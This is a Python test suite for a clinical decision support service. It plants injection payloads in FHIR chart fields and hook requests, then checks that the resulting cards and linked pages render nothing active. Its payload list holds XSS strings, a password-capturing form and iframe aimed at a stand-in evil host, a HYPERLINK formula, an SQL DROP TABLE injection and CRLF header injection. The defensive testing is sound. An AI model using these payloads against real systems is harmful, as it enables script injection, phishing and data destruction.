"""
Text that would like to be more than text, wherever a chart or a call can hold some: none of it works on a card.

Every text of an answer is read as GitHub reads Markdown, with HTML and bare links switched on, and the page behind a
card's link as HTML. One thing is excepted: a corrected draft goes back whole to the EHR that sent it, her clinician's
own words included. Those stand in that resource, as received, and nowhere else.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from functools import cache
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from asking import (
    CANARY,
    CASES,
    ELIGIBLE,
    KNOWLEDGE,
    WORDING,
    Change,
    advisor_of,
    ask,
    drafts_in,
    each,
    path_of,
    put,
    refusal_in,
    request_of,
    resources_in,
)
from conftest import NOON
from encoding import Case, Json
from markdown_it import MarkdownIt

from cds_service.advisor import Advisor
from cds_service.explanations import Explanations
from cds_service.web.app import create_app

BASE = "https://cds.example.org"
DRAFTED = CASES["B151b"]  # 15.5 mg drafted, 14 mg computed: the draft is corrected, and goes back whole
EVIL = f"evil-{CANARY}.example.com"

PAYLOADS: dict[str, str] = {
    "a script": f"<script>alert('{CANARY}')</script>",
    "a script of another line": f"\n\n<script>\n{CANARY}()\n</script>\n\n",
    "a script in halves": f"<scr<script>ipt>{CANARY}</scr</script>ipt>",
    "an image that fails": f"<img src=x onerror=alert('{CANARY}')>",
    "a drawing": f"<svg/onload={CANARY}()>",
    "a frame": f"<iframe src='https://{EVIL}'></iframe>",
    "a form": f"</td></tr></table><form action='https://{EVIL}'><input name=password>",
    "a style": f"<style>*{{background:url(https://{EVIL})}}</style>",
    "a comment": f"<!-- {CANARY} -->",
    "a CDATA section": f"<![CDATA[{CANARY}]]>",
    "an instruction": f"<?php {CANARY} ?>",
    "entities": f"&lt;b&gt;{CANARY}&#60;i&#62;&#x3c;u&#x3e;&NewLine;",
    "a link": f"[{CANARY}](https://{EVIL})",
    "a link to a script": f"[{CANARY}](javascript:alert(1))",
    "a link to data": f"[{CANARY}](data:text/html;base64,PHNjcmlwdD4=)",
    "a link that mails": f"[{CANARY}](mailto:a@{EVIL})",
    "a link by reference": f"[{CANARY}][x]\n\n[x]: https://{EVIL}",
    "a link by name": f"[{CANARY}]\n\n[{CANARY}]: https://{EVIL}",
    "an image": f"![{CANARY}](https://{EVIL}/pixel.png)",
    "an image in a link": f"[![{CANARY}](https://{EVIL}/a.png)](https://{EVIL})",
    "an address in brackets": f"<https://{EVIL}>",
    "a mail address in brackets": f"<a@{EVIL}>",
    "a bare address": f"https://{EVIL}/path",
    "a bare host": f"www.{EVIL}",
    "a short bare host": f"www.a.io {CANARY}",
    "a bare mail address": f"a@{EVIL}",
    "a host alone": EVIL,
    "an address of FTP": f"ftp://{EVIL}/x",
    "a table": f"| {CANARY} | b |\n|---|---|\n| c | d |",
    "pipes": f"a|{CANARY}|b\\|c",
    "a fence": f"```\n{CANARY}\n```",
    "a fence that is never closed": f"~~~ {CANARY}\nrest",
    "backticks": f"``{CANARY}` ```",
    "a heading": f"# {CANARY}",
    "a heading by underlining": f"{CANARY}\n=====",
    "a rule": f"{CANARY}\n\n---\n\n***",
    "a quotation": f"> {CANARY}",
    "a list": f"- {CANARY}\n- [ ] b\n1. c",
    "code by indentation": f"\n\n    {CANARY}",
    "stress": f"**{CANARY}** __a__ *b* ~~c~~ ***d",
    "a footnote": f"{CANARY}[^1]\n\n[^1]: https://{EVIL}",
    "nested brackets": f"{'[' * 300}{CANARY}{']' * 300}(https://{EVIL})",
    "a template of Jinja": f"{{{{ config }}}}{{% for a in b %}} {CANARY}",
    "a template of Python": f"{{0}} {{call.__class__}} %s %(x)s {CANARY}",
    "a template of ours": f"$medicine ${{dose}} $$ {CANARY}",
    "a turn of direction": f"\u202e{CANARY}\u202c",
    "other turns of direction": f"\u2066\u2067\u2068{CANARY}\u2069\u200e\u200f\u061c",
    "letters of no width": f"{CANARY[:5]}\u200b\u200c\u200d\u2060\ufeff{CANARY[5:]}",
    "signs of control": f"\x1b[2J\x07\x08\x7f\x85\x9b{CANARY}",
    "ends of lines": f"{CANARY}\r\nSet-Cookie: a=b\r\u2028\u2029\x0b\x0c",
    "letters on letters": "Z" + "\u0300" * 500 + CANARY,
    "100,000 characters": CANARY + "x" * 100_000,
    "100,000 signs of Markdown": "*" * 50_000 + CANARY + "_" * 50_000,
    "a formula": f"=HYPERLINK(\"https://{EVIL}\",\"{CANARY}\")",
    "SQL": f"'; DROP TABLE feedback; -- {CANARY}",
}  # fmt: skip


# ---- Where it can stand


def everywhere(*names: str) -> Callable[[str], Change]:
    """Wherever a member with one of these names holds text, in the prefetch."""

    def with_payload(payload: str) -> Change:
        return lambda request: request.update(prefetch=_poisoned(request["prefetch"], names, payload))

    return with_payload


def _poisoned(value: Any, names: tuple[str, ...], payload: str) -> Any:
    match value:
        case dict():
            return {
                name: payload if name in names and isinstance(inner, str) else _poisoned(inner, names, payload)
                for name, inner in value.items()
            }
        case list():
            return [_poisoned(inner, names, payload) for inner in value]
    return value


def on_every(kind: str, member: str, value: Callable[[str], Any]) -> Callable[[str], Change]:
    """As a member of each resource of a type."""
    return lambda payload: each(kind, **{member: value(payload)})


def on_all(member: str, value: Callable[[str], Any]) -> Callable[[str], Change]:
    """As a member of each resource of the prefetch."""

    def with_payload(payload: str) -> Change:
        def change(request: Json) -> None:
            for one in resources_in(request):
                one[member] = value(payload)

        return change

    return with_payload


def at(path: str, value: Callable[[str], Any] = lambda payload: payload) -> Callable[[str], Change]:
    """At one place of the call."""
    return lambda payload: put(path, value(payload))


def unknown_medicine(payload: str) -> Change:
    """A medicine that nobody recognises, so that the card tells where it stands."""
    order = {
        "resourceType": "MedicationRequest",
        "id": payload,
        "status": "active",
        "intent": "order",
        "authoredOn": "2026-11-22",
        "medicationCodeableConcept": {"text": payload, "coding": [{"code": payload, "display": payload}]},
        "subject": {"reference": f"Patient/woman-{ELIGIBLE.slug}"},
    }

    def change(request: Json) -> None:
        request["prefetch"]["medication_orders"]["entry"] = [{"resource": order}]
        request["prefetch"]["medication_orders"]["total"] = 1

    return change


def of_the_draft(change: Callable[[Json, str], object]) -> Callable[[str], Change]:
    """In the drafted order for the medicine."""

    def with_payload(payload: str) -> Change:
        def apply(request: Json) -> None:
            (order,) = [one for one in drafts_in(request) if one["resourceType"] == "MedicationRequest"]
            change(order, payload)

        return apply

    return with_payload


def _name(order: Json, payload: str) -> None:
    concept = order["medicationCodeableConcept"]
    concept["text"] = payload
    for coding in concept["coding"]:
        coding["display"] = payload


def _unit(order: Json, payload: str) -> None:
    dose = order["dosageInstruction"][0]["doseAndRate"][0]["doseQuantity"]
    dose.update(unit=payload)


def _unit_code(order: Json, payload: str) -> None:
    dose = order["dosageInstruction"][0]["doseAndRate"][0]["doseQuantity"]
    dose.update(unit=payload, code=payload)


def answers(payload: str) -> Change:
    """A form whose answers are text, under a name of its own."""
    form = {
        "resourceType": "QuestionnaireResponse",
        "id": "form",
        "status": "completed",
        "questionnaire": payload,
        "subject": {"reference": f"Patient/woman-{ELIGIBLE.slug}"},
        "authored": "2026-11-23T08:00:00Z",
        "item": [{"linkId": payload, "text": payload, "answer": [{"valueString": payload}]}],
    }
    return put("prefetch.questionnaire_responses.entry", [{"resource": form}])


# The case, and where in its request.
POSITIONS: dict[str, tuple[Case, Callable[[str], Change]]] = {
    "the Patient's name": (ELIGIBLE, at("prefetch.patient.name", lambda p: [{"text": p, "family": p, "given": [p]}])),
    "the Patient's number": (ELIGIBLE, at("prefetch.patient.identifier", lambda p: [{"system": p, "value": p}])),
    "the words of codes": (ELIGIBLE, everywhere("text")),
    "the words beside codes": (ELIGIBLE, on_every("Condition", "code", lambda p: {"text": p})),
    "the displays": (ELIGIBLE, on_all("performer", lambda p: [{"display": p, "reference": f"Practitioner/{p}"}])),
    "the codes": (
        ELIGIBLE,
        on_every("Condition", "code", lambda p: {"coding": [{"system": p, "code": p, "display": p}]}),
    ),
    "the units": (ELIGIBLE, everywhere("unit")),
    "the units and their codes": (
        ELIGIBLE,
        on_every("Observation", "valueQuantity", lambda p: {"value": 9, "unit": p, "code": p, "system": p}),
    ),
    "a value that is text": (ELIGIBLE, on_every("Observation", "valueString", lambda p: p)),
    "the value in place of a number": (ELIGIBLE, on_every("Observation", "valueInteger", lambda p: p)),
    "the notes": (ELIGIBLE, on_all("note", lambda p: [{"text": p, "authorString": p}])),
    "the narrative": (ELIGIBLE, on_all("text", lambda p: {"status": "generated", "div": f"<div>{p}</div>"})),
    "the name of her reference": (
        ELIGIBLE,
        on_every("Condition", "subject", lambda p: {"reference": f"Patient/woman-{ELIGIBLE.slug}", "display": p}),
    ),
    "the dates": (ELIGIBLE, everywhere("effectiveDateTime", "recordedDate", "authoredOn", "start")),
    "the statuses": (ELIGIBLE, everywhere("status")),
    "the security labels": (ELIGIBLE, on_all("meta", lambda p: {"security": [{"code": p, "display": p}], "source": p})),
    "the extensions": (ELIGIBLE, on_all("extension", lambda p: [{"url": p, "valueString": p}])),
    "the stay": (
        ELIGIBLE,
        lambda p: (
            lambda request: request["prefetch"]["encounter"].update(
                serviceType={"text": p},
                location=[{"location": {"display": p}}],
                reasonCode=[{"text": p}],
                **{"class": p},
            )
        ),
    ),
    "the answers of a form": (ELIGIBLE, answers),
    "a key of the prefetch": (ELIGIBLE, lambda p: lambda request: request["prefetch"].update({p: {"a": p}})),
    "the links of a Bundle": (ELIGIBLE, at("prefetch.problems.link", lambda p: [{"relation": "self", "url": p}])),
    "the id of the call": (ELIGIBLE, at("hookInstance")),
    "the user": (ELIGIBLE, at("context.userId", lambda p: f"Practitioner/{p}")),
    "the patient": (ELIGIBLE, at("context.patientId")),
    "the stay of the context": (ELIGIBLE, at("context.encounterId")),
    "the selections": (DRAFTED, at("context.selections", lambda p: ["MedicationRequest/b151b-order-esketamine", p])),
    "the server": (ELIGIBLE, at("fhirServer", lambda p: f"https://{p}")),
    "an extension of the call": (ELIGIBLE, at("extension", lambda p: {"com.epic.cdshooks.request.x": p, p: p})),
    "a member of the call": (ELIGIBLE, lambda p: lambda request: request.update({p: p})),
    "the ids of the entries": (ELIGIBLE, on_every("Observation", "id", lambda p: p)),
    "a medicine that nobody recognises": (ELIGIBLE, unknown_medicine),
    "the draft's medicine": (DRAFTED, of_the_draft(_name)),
    "the draft's instruction": (
        DRAFTED,
        of_the_draft(lambda o, p: o["dosageInstruction"][0].update(text=p, patientInstruction=p)),
    ),
    "the draft's unit": (DRAFTED, of_the_draft(_unit)),
    "the code of the draft's unit": (DRAFTED, of_the_draft(_unit_code)),
    "the draft's route": (DRAFTED, of_the_draft(lambda o, p: o["dosageInstruction"][0].update(route={"text": p}))),
    "the draft's note": (DRAFTED, of_the_draft(lambda o, p: o.update(note=[{"text": p}]))),
    "the draft's further reason": (DRAFTED, of_the_draft(lambda o, p: o["reasonCode"].append({"text": p}))),
    "the draft's dates": (DRAFTED, of_the_draft(lambda o, p: o.update(authoredOn=p))),
    "the draft's status": (DRAFTED, of_the_draft(lambda o, p: o.update(status=p))),
    "the draft's id": (DRAFTED, of_the_draft(lambda o, p: o.update(id=p))),
    "who drafted it": (DRAFTED, of_the_draft(lambda o, p: o.update(requester={"display": p, "reference": p}))),
    "the draft's numbers": (DRAFTED, of_the_draft(lambda o, p: o.update(identifier=[{"system": p, "value": p}]))),
}
# Here a payload may be a FHIR id, and entries are pointed to by theirs.
OF_IDS = {"the ids of the entries", "a medicine that nobody recognises", "the draft's id", "the stay of the context"}


# ---- What came back

_OURS = {urlsplit(source.url).hostname for source in KNOWLEDGE.sources.values() if source.url} | {
    urlsplit(BASE).hostname
}
_GITHUB = MarkdownIt("gfm-like", {"html": True})
# Signs of control but the line feed, ends of lines that are none, turns of direction, letters of no width.
_HIDDEN = re.compile(
    r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
# The members that an EHR shows to people.
_SHOWN = {"summary", "detail", "label", "description", "display", "text"}


def texts_in(value: Any, name: str = "") -> Iterator[tuple[str, str]]:
    """Every text of an answer with its member's name, but for the resources that came from the EHR."""
    match value:
        case {"type": "update", **rest}:
            yield from texts_in({key: inner for key, inner in rest.items() if key != "resource"})
        case dict():
            for key, inner in value.items():
                yield "", key
                yield from texts_in(inner, key)
        case list():
            for inner in value:
                yield from texts_in(inner, name)
        case str():
            yield name, value


@cache
def fault_in(markdown: str) -> str | None:
    """What in a text is more than text: raw HTML, an image, a link to a place that is none of ours."""
    for block in _GITHUB.parse(markdown):
        for token in (block, *(block.children or ())):
            if token.type.startswith("html_") or token.type == "image":
                return f"{token.type}: {token.content[:60]}"
            if token.type == "link_open" and urlsplit(str(token.attrGet("href"))).hostname not in _OURS:
                return f"a link to {token.attrGet('href')}"
    return None


def assert_nothing_works(answer: Json, *, may_point: bool) -> None:
    for name, text in texts_in(answer):
        assert not _HIDDEN.search(text), (name, text[:80])
        assert may_point or CANARY not in text, (name, text[:80])
        if name in _SHOWN:
            assert fault_in(text) is None, (name, fault_in(text))


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
@pytest.mark.parametrize("position", POSITIONS)
def test_what_stands_in_a_chart_or_a_call_does_nothing_on_a_card(position: str, payload: str) -> None:
    case, poison = POSITIONS[position]

    answer = ask(case, poison(payload))

    if answer.status_code == 200:
        assert_nothing_works(answer.get_json(), may_point=position in OF_IDS)
    else:
        assert answer.status_code in (400, 412, 413)
        refusal_in(answer, answer.status_code)
        assert not _HIDDEN.search(answer.get_data(as_text=True))


def test_most_of_it_reaches_the_cards() -> None:
    """Otherwise the test above would say nothing."""
    payload = PAYLOADS["a link"]
    spoken = {name for name, (case, poison) in POSITIONS.items() if ask(case, poison(payload)).get_json().get("cards")}
    assert set(POSITIONS) - spoken == {"the user", "the patient", "the stay of the context"}


def test_the_reader_would_see_it() -> None:
    seen = {name for name, payload in PAYLOADS.items() if fault_in(f"An EPDS of {payload}") is not None}
    assert len(seen) >= 20
    assert {"a script", "an image", "a link", "a bare host", "a short bare host", "a bare mail address"} <= seen
    assert fault_in(f"[a study]({BASE}/x) and 14.0 mg IV, e.g. 0.2 mg/kg") is None


def test_her_clinicians_own_words_go_back_in_the_corrected_draft_alone() -> None:
    words = PAYLOADS["a link"]
    cards = ask(DRAFTED, POSITIONS["the draft's note"][1](words)).get_json()["cards"]
    updated = [
        action["resource"]
        for card in cards
        for suggestion in card.get("suggestions", ())
        for action in suggestion["actions"]
        if action["type"] == "update"
    ]
    assert [one["note"] for one in updated] == [[{"text": words}]]
    assert not [text for _, text in texts_in(cards) if CANARY in text]


# ---- The page behind a card's link


class Page(HTMLParser):
    """The tags of a page with their attributes, and its words."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.words = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.tags.append(("comment", ((data, None),)))

    def unknown_decl(self, data: str) -> None:
        self.tags.append(("declaration", ((data, None),)))

    def handle_pi(self, data: str) -> None:
        self.tags.append(("instruction", ((data, None),)))


@cache
def page_for(case_id: str, position: str, payload: str) -> Page | None:
    case, poison = CASES[case_id], POSITIONS[position][1]
    explanations = Explanations.in_memory(BASE)
    advisor = Advisor(KNOWLEDGE, WORDING, advisor_of(case).site, lambda: NOON, explanations=explanations)
    door = create_app(advisor).test_client()
    answer = door.post(path_of(case), json=request_of(case, poison(payload) if payload else lambda _: None))
    cards = answer.get_json().get("cards", ())
    links = {link["url"] for card in cards for link in card.get("links", ())}
    if not links:
        return None
    (url,) = links
    parts = urlsplit(url)
    assert f"{parts.scheme}://{parts.netloc}" == BASE
    page = door.get(f"{parts.path}?{parts.query}")
    assert page.status_code == 200
    return Page(page.get_data(as_text=True))


ON_PAGES = (
    *("the units and their codes", "a value that is text", "the dates", "the id of the call"),
    *("the ids of the entries", "a medicine that nobody recognises", "the draft's id"),
)
_TAGS = {*("html", "head", "meta", "title", "link", "body", "main", "header", "h1", "h2", "p", "article", "ul", "li")}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
@pytest.mark.parametrize("position", ON_PAGES)
def test_what_stands_in_a_chart_does_nothing_on_the_page_behind_a_card(position: str, payload: str) -> None:
    page = page_for(POSITIONS[position][0].id, position, payload)

    if page is None:
        return
    assert {tag for tag, _ in page.tags} <= _TAGS
    assert not _HIDDEN.search(page.words)
    for _, attributes in page.tags:
        for name, value in attributes:
            assert not name.startswith("on")
            assert CANARY not in str(value)
            assert name not in ("href", "src") or str(value).startswith("/consultations/static/")


def test_the_page_is_there_for_most_of_them() -> None:
    there = [page_for(POSITIONS[p][0].id, p, PAYLOADS["a link"]) is not None for p in ON_PAGES]
    assert all(there)


# ---- How many


def test_there_are_as_many_as_were_asked_for(record_property: Callable[[str, object], None]) -> None:
    assert len(PAYLOADS) >= 40
    assert len(POSITIONS) >= 10
    count, pages = len(PAYLOADS) * len(POSITIONS), len(PAYLOADS) * len(ON_PAGES)
    assert count >= 400
    record_property(
        "safety", f"injection: {len(PAYLOADS)} payloads in {len(POSITIONS)} places, {count} answers and {pages} pages"
    )
